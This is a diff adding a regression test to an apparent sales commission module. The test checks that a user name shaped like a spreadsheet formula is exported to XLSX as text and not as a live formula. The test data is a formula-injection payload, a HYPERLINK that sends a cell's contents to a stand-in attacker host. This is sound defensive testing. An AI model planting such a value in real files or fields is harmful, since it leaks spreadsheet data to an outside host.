@@ -50,3 +50,22 @@ def test_commission_xlsx_of_the_demo_statements(server):
                          % (server.url, ','.join(map(str, ids))))
     total = manager('sales_mis.commission.statement', 'read', ids, ['amount_total'])
     assert abs(rows[-1][7] - sum(s['amount_total'] for s in total)) < 0.01
+
+
+def test_a_name_that_looks_like_a_formula_downloads_as_text(server):
+    """Issue 12: a salesperson called like a formula is a text cell of the completion XLSX."""
+    import io
+    import openpyxl
+    admin = server.login('admin', 'admin')
+    plan = admin('ir.model.data', 'xmlid_to_res_id', 'sales_mis.demo_plan_year')
+    user = admin('res.users', 'search_read', [('login', '=', 'salesperson')], fields=['name'])[0]
+    formula = '=HYPERLINK("http://evil.example/?"&C5,"x")'
+    admin('res.users', 'write', [user['id']], {'name': formula})
+    try:
+        with session(server, 'director').open('%s/sales_mis/plan/%d/completion.xlsx' % (server.url, plan)) as response:
+            book = openpyxl.load_workbook(io.BytesIO(response.read()))
+    finally:
+        admin('res.users', 'write', [user['id']], {'name': user['name']})
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert [cell.data_type for cell in cells if cell.value == formula] == ['s']
+    assert not [cell for cell in cells if cell.data_type == 'f']
